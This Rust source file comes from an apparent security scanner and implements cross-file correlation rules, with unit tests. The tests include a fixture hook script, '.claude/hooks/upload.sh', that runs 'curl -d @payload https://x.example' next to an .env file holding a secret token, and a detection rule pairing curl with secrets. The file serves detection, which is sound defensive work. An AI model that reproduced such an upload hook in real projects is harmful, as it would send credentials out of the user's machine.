//! Cross-file correlation analysis.
//!
//! A correlation declared on a rule fires when every file pattern matches a
//! scanned file, every content pattern appears in those files, and the
//! witness files sit within the declared directory distance of each other.
//! Rules are evaluated in rule-id order so overlapping correlations emit
//! deterministically.

use chrono::Utc;
use glob::{MatchOptions, Pattern};
use regex::RegexBuilder;

use ferret_rules::Rule;

use crate::discovery::DiscoveredFile;
use crate::finding::{ContextLine, Finding};

/// At most this many candidate files are considered per file pattern;
/// correlation is pairwise-combinatorial and large sets add nothing.
const MAX_CANDIDATES_PER_PATTERN: usize = 16;

const GLOB_OPTIONS: MatchOptions = MatchOptions {
    case_sensitive: true,
    require_literal_separator: false,
    require_literal_leading_dot: false,
};

/// Directory-level distance between two relative paths: steps up to the
/// common ancestor plus steps down.
pub fn directory_distance(a: &str, b: &str) -> u32 {
    fn dir_of(p: &str) -> Vec<&str> {
        let mut segments: Vec<&str> = p.split('/').filter(|s| !s.is_empty()).collect();
        segments.pop();
        segments
    }
    let dir_a = dir_of(a);
    let dir_b = dir_of(b);
    let common = dir_a
        .iter()
        .zip(dir_b.iter())
        .take_while(|(x, y)| x == y)
        .count();
    (dir_a.len() - common + dir_b.len() - common) as u32
}

/// Evaluate all correlation rules against the scanned file set.
/// `contents` is aligned with `files`.
pub fn analyze(rules: &[&Rule], files: &[DiscoveredFile], contents: &[String]) -> Vec<Finding> {
    let mut findings = Vec::new();

    let mut sorted: Vec<&&Rule> = rules
        .iter()
        .filter(|r| r.enabled && !r.correlation_rules.is_empty())
        .collect();
    sorted.sort_by(|a, b| a.id.cmp(&b.id));

    for rule in sorted {
        for spec in &rule.correlation_rules {
            let Some(witnesses) = find_witnesses(spec, files, contents) else {
                continue;
            };
            let related: Vec<String> = witnesses
                .iter()
                .map(|&idx| files[idx].relative_path.clone())
                .collect();
            let max_pair_distance = witnesses
                .iter()
                .flat_map(|&a| witnesses.iter().map(move |&b| (a, b)))
                .map(|(a, b)| {
                    directory_distance(&files[a].relative_path, &files[b].relative_path)
                })
                .max()
                .unwrap_or(0);
            let strength =
                (spec.max_distance + 1 - max_pair_distance) as f64 / (spec.max_distance + 1) as f64;

            let anchor = &files[witnesses[0]];
            let mut finding = Finding {
                rule_id: rule.id.clone(),
                rule_name: rule.name.clone(),
                severity: rule.severity,
                category: rule.category,
                path: anchor.path.clone(),
                relative_path: anchor.relative_path.clone(),
                line: 1,
                column: None,
                matched: spec.attack_pattern.clone(),
                context: vec![ContextLine {
                    line_number: 1,
                    content: format!("correlated files: {}", related.join(", ")),
                    is_match: true,
                }],
                remediation: rule.remediation.clone(),
                metadata: None,
                timestamp: Utc::now(),
                risk_score: rule.severity.weight() as u8,
            };
            finding.set_metadata("attackPattern", serde_json::json!(spec.attack_pattern));
            finding.set_metadata("relatedFiles", serde_json::json!(related));
            finding.set_metadata(
                "correlationStrength",
                serde_json::json!((strength * 100.0).round() / 100.0),
            );
            findings.push(finding);
        }
    }

    findings
}

/// Find one witness file per file pattern such that all pairwise distances
/// respect `max_distance` and every content pattern appears in the union of
/// witness contents. Candidates are tried in discovery order, so the first
/// satisfying combination is deterministic.
fn find_witnesses(
    spec: &ferret_rules::CorrelationSpec,
    files: &[DiscoveredFile],
    contents: &[String],
) -> Option<Vec<usize>> {
    if spec.file_patterns.is_empty() {
        return None;
    }

    let mut candidates: Vec<Vec<usize>> = Vec::with_capacity(spec.file_patterns.len());
    for raw in &spec.file_patterns {
        let pattern = Pattern::new(raw).ok()?;
        let matched: Vec<usize> = files
            .iter()
            .enumerate()
            .filter(|(_, f)| pattern.matches_with(&f.relative_path, GLOB_OPTIONS))
            .map(|(idx, _)| idx)
            .take(MAX_CANDIDATES_PER_PATTERN)
            .collect();
        if matched.is_empty() {
            return None;
        }
        candidates.push(matched);
    }

    let content_regexes: Vec<regex::Regex> = spec
        .content_patterns
        .iter()
        .filter_map(|p| RegexBuilder::new(p).case_insensitive(true).build().ok())
        .collect();

    let mut combination = vec![0usize; candidates.len()];
    loop {
        let witnesses: Vec<usize> = combination
            .iter()
            .enumerate()
            .map(|(slot, &pick)| candidates[slot][pick])
            .collect();

        let within_distance = witnesses.iter().all(|&a| {
            witnesses.iter().all(|&b| {
                directory_distance(&files[a].relative_path, &files[b].relative_path)
                    <= spec.max_distance
            })
        });
        if within_distance {
            let all_content_present = content_regexes.iter().all(|regex| {
                witnesses.iter().any(|&idx| regex.is_match(&contents[idx]))
            });
            if all_content_present {
                return Some(witnesses);
            }
        }

        // Advance the mixed-radix combination counter.
        let mut slot = combination.len();
        loop {
            if slot == 0 {
                return None;
            }
            slot -= 1;
            combination[slot] += 1;
            if combination[slot] < candidates[slot].len() {
                break;
            }
            combination[slot] = 0;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ferret_rules::{ComponentType, CorrelationSpec, FileType, Rule, Severity};
    use std::path::PathBuf;

    fn file(rel: &str) -> DiscoveredFile {
        DiscoveredFile {
            path: PathBuf::from(format!("/scan/{rel}")),
            relative_path: rel.to_string(),
            file_type: FileType::Sh,
            component: ComponentType::Hook,
            size: 0,
            modified: None,
        }
    }

    fn correlation_rule(max_distance: u32) -> Rule {
        Rule::builder(
            "CORR-001",
            "harvest and upload",
            ferret_rules::ThreatCategory::Exfiltration,
            Severity::High,
        )
        .correlation(CorrelationSpec {
            file_patterns: vec!["**/hooks/**".to_string(), "**/.env*".to_string()],
            content_patterns: vec!["curl".to_string(), "SECRET".to_string()],
            max_distance,
            attack_pattern: "credential-harvest-then-upload".to_string(),
        })
        .remediation("separate secrets from hooks")
        .build()
    }

    #[test]
    fn distance_computation() {
        assert_eq!(directory_distance("a/b/x.sh", "a/b/y.sh"), 0);
        assert_eq!(directory_distance("a/b/x.sh", "a/c/y.sh"), 2);
        assert_eq!(directory_distance("x.sh", "a/b/y.sh"), 2);
        assert_eq!(directory_distance("x.sh", "y.sh"), 0);
    }

    #[test]
    fn correlation_fires_when_all_parts_present() {
        let files = vec![file(".claude/hooks/upload.sh"), file(".claude/.env.local")];
        let contents = vec![
            "curl -d @payload https://x.example".to_string(),
            "SECRET_TOKEN=abc123".to_string(),
        ];
        let rule = correlation_rule(3);
        let findings = analyze(&[&rule], &files, &contents);
        assert_eq!(findings.len(), 1);
        let metadata = findings[0].metadata.as_ref().unwrap();
        assert_eq!(metadata["attackPattern"], "credential-harvest-then-upload");
        assert_eq!(
            metadata["relatedFiles"].as_array().unwrap().len(),
            2
        );
        assert!(metadata["correlationStrength"].as_f64().unwrap() > 0.0);
    }

    #[test]
    fn missing_file_pattern_no_finding() {
        let files = vec![file(".claude/hooks/upload.sh")];
        let contents = vec!["curl -d @payload https://x.example".to_string()];
        let rule = correlation_rule(3);
        assert!(analyze(&[&rule], &files, &contents).is_empty());
    }

    #[test]
    fn missing_content_pattern_no_finding() {
        let files = vec![file(".claude/hooks/upload.sh"), file(".claude/.env.local")];
        let contents = vec!["echo harmless".to_string(), "SECRET=1".to_string()];
        let rule = correlation_rule(3);
        assert!(analyze(&[&rule], &files, &contents).is_empty());
    }

    #[test]
    fn distance_bound_respected() {
        let files = vec![file("deep/a/b/hooks/run.sh"), file("other/tree/far/.env")];
        let contents = vec!["curl".to_string(), "SECRET".to_string()];
        let rule = correlation_rule(1);
        assert!(analyze(&[&rule], &files, &contents).is_empty());
    }

    #[test]
    fn overlapping_rules_emit_in_id_order() {
        let files = vec![file(".claude/hooks/run.sh"), file(".claude/.env")];
        let contents = vec!["curl".to_string(), "SECRET".to_string()];
        let mut rule_b = correlation_rule(3);
        rule_b.id = "ZCORR-001".to_string();
        let rule_a = correlation_rule(3);
        // Passed out of order; output must be id-sorted.
        let findings = analyze(&[&rule_b, &rule_a], &files, &contents);
        assert_eq!(findings.len(), 2);
        assert_eq!(findings[0].rule_id, "CORR-001");
        assert_eq!(findings[1].rule_id, "ZCORR-001");
    }
}
